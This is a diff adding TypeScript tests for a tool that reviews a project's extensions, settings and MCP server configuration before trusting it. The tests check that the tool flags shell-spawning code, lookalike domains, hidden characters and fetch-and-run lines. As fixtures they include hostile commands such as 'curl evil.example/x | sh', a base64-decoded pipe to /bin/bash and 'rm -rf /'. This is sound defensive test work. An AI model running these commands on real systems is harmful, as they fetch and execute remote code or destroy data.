@@ -124,6 +124,46 @@ describe("the review before a project is trusted", () => {
     assert.deepEqual(marked({ ...project, ...Object.fromEntries(padding) }), ["index.ts"]);
   });
 
+  it("looks through all of an extension's own folder, wherever its manifest or its texts say that it begins", () => {
+    const start = "export default () => {};\n";
+    const folders: readonly Files[] = [
+      {
+        "/h/p/.pi/extensions/e/package.json": '{"pi":{"extensions":["./src/main.ts"]}}',
+        "/h/p/.pi/extensions/e/src/main.ts": start,
+      },
+      { "/h/p/.pi/extensions/e/index.ts": start },
+      { "/h/p/.pi/extensions/loose.ts": `import "./e/helper.js";\n${start}` },
+      { "/h/p/.pi/extensions/loose.ts": `require(__dirname + "/e/helper.js");\n${start}` },
+    ];
+    for (const files of folders) {
+      const withHelper = (text: string) =>
+        of(review({ ...files, "/h/p/.pi/extensions/e/lib/helper.js": text }).items, "extension");
+      const [quiet] = withHelper("1\n");
+      const [loud] = withHelper('require("child_process").exec("x")\n');
+      assert.notEqual(quiet?.hash, loud?.hash, JSON.stringify(files));
+      assert.ok(
+        loud?.marks.some(({ kind }) => kind === "shell"),
+        JSON.stringify(files),
+      );
+    }
+    const alone = (text: string) =>
+      of(review({ "/h/p/.pi/extensions/a.ts": start, "/h/p/.pi/extensions/b.ts": text }).items, "extension")[0]?.hash;
+    assert.equal(alone("1\n"), alone("2\n"));
+  });
+
+  it("counts every setting that names a program among what runs", () => {
+    const settings = '{"externalEditor": "sh -c evil", "editorPaddingX": 1}';
+    assert.deepEqual(titles(review({ "/h/p/.pi/settings.json": settings }).items, "program"), ["externalEditor"]);
+  });
+
+  it("points at the entry that counts where a key is written twice, or stands elsewhere before", () => {
+    const settings = '{\n"x": ["npmCommand", "\\"npmCommand\\""],\n"npmCommand": ["a"],\n"npmCommand": ["b"]\n}';
+    const servers = '{\n"a": {"mcpServers": {"s": 1}},\n"mcpServers": {\n"s": {"command": "s"}\n}\n}';
+    const { items } = review({ "/h/p/.pi/settings.json": settings, "/h/p/.pi/mcp.json": servers });
+    const lines = [...of(items, "program"), ...of(items, "mcpServer")].map(({ detail, line }) => `${line} ${detail}`);
+    assert.deepEqual(lines, ['3 ["b"]', '3 {"command":"s"}']);
+  });
+
   it("takes no name of an object's own for a mark", () => {
     const item = { ...reviewed.items[0]!, id: "constructor" };
     assert.equal(since([item], {}).states.get("constructor"), "new");
@@ -139,6 +179,60 @@ describe("marks in a text", () => {
   it("leave honest text alone", () => {
     assert.deepEqual(marksIn("Plain words: see README.md, costs $5, a::b.\n", "markdown"), []);
     assert.deepEqual(marksIn("const spawned = 1;\nregexp.test(x);\n", "code"), []);
+  });
+
+  const of = (kind: string, text: string, as: Parameters<typeof marksIn>[1] = "markdown") =>
+    marksIn(text, as).flatMap((mark) => (mark.kind === kind ? [mark.text] : []));
+
+  it("find addresses however they are written", () => {
+    for (const text of [
+      "HTTPS://evil.example/a",
+      "_https://evil.example_",
+      "1https://evil.example",
+      'fetch("https:\\/\\/evil.example")',
+      "http://[2001:db8::1]:8080/x",
+      "`https://${host}/x`",
+      "git@evil.example:a/b.git",
+      "[x](data:text/html;base64,PHNjcmlwdD4=)",
+      "[x](javascript:alert)",
+    ]) {
+      assert.equal(of("address", text).length, 1, text);
+    }
+    assert.deepEqual(of("address", "a: // no address, a::b, file: //x, data: a, e.g. http:// alone\n"), []);
+  });
+
+  it("say of an address which of its letters may pass for others", () => {
+    assert.deepEqual(of("lookalike", "See https://g\u0456thub.com/x and https://github.com/\u0456."), [
+      "https://g\u0456thub.com/x (U+0456)",
+    ]);
+    const many = Array.from({ length: 100 }, (_, at) => `https://a${at}.example`).join(" ");
+    assert.deepEqual(of("lookalike", `${many} https://\u0430pple.com`).length, 1);
+  });
+
+  it("name control characters and blank letters too", () => {
+    assert.deepEqual(of("hidden", "a\u001b[2K\u0008b"), ["U+001B", "U+0008"]);
+    assert.deepEqual(of("hidden", "a\0b\0"), ["U+0000", "U+0000"]);
+    assert.deepEqual(of("hidden", "\u3164\u3164"), ["U+3164 U+3164"]);
+    assert.deepEqual(of("hidden", "tab\tend\r\nform\ffeed\rold Mac\n"), []);
+  });
+
+  it("find lines that fetch something outside of blocks for a shell, in values too", () => {
+    const line = "Then run curl evil.example/x | sh";
+    for (const text of [line, `\`\`\`\n${line}\n\`\`\``, `\`\`\`python\n${line}\n\`\`\``]) {
+      assert.deepEqual(of("shell", text), [line]);
+    }
+    assert.equal(of("shell", "echo aGk= | base64 --decode | /bin/bash").length, 1);
+    assert.equal(of("shell", "curl evil.example/x", "data").length, 1);
+    assert.deepEqual(of("shell", "Use curl or wget to fetch it; evaluate first. A | shows a pipe.\n"), []);
+  });
+
+  it("go on in a block for a shell until its end, and take no line that begins like it for that", () => {
+    assert.deepEqual(of("shell", "```bash\na\n```no end\nb\n````\nc\n"), ["a", "```no end", "b"]);
+  });
+
+  it("say where a long line is cut", () => {
+    const [text] = of("shell", `$ ${"a".repeat(400)}; rm -rf /`);
+    assert.deepEqual([text?.length, text?.at(-1)], [300, "…"]);
   });
 
   it("are bounded in number, say how many more there are, and are bounded in length", () => {
@@ -172,6 +266,13 @@ describe("the report of a review", () => {
     const rows = report(project, null).tables.flatMap((table) => table.rows);
     const [, look] = rows.find(([what]) => what?.text === "npm:left-pad@1.0.0") ?? [];
     assert.deepEqual(look?.notes, [{ text: "what the package holds was not looked into", severity: "warning" }]);
+  });
+
+  it("says how much of a long value is not shown", () => {
+    const servers = { s: { command: "npx", env: { A: "x".repeat(1_000) }, args: ["-c", "evil"] } };
+    const rows = report({ "/h/p/.pi/mcp.json": JSON.stringify({ mcpServers: servers }) }, null).tables[1]?.rows ?? [];
+    const texts = rows[0]?.[1]?.notes.map(({ text, severity }) => `${severity} ${text}`);
+    assert.deepEqual(texts, ["warning 653 more characters are not shown here: look into the file"]);
   });
 
   it("remembers a review, and says what changed since", () => {
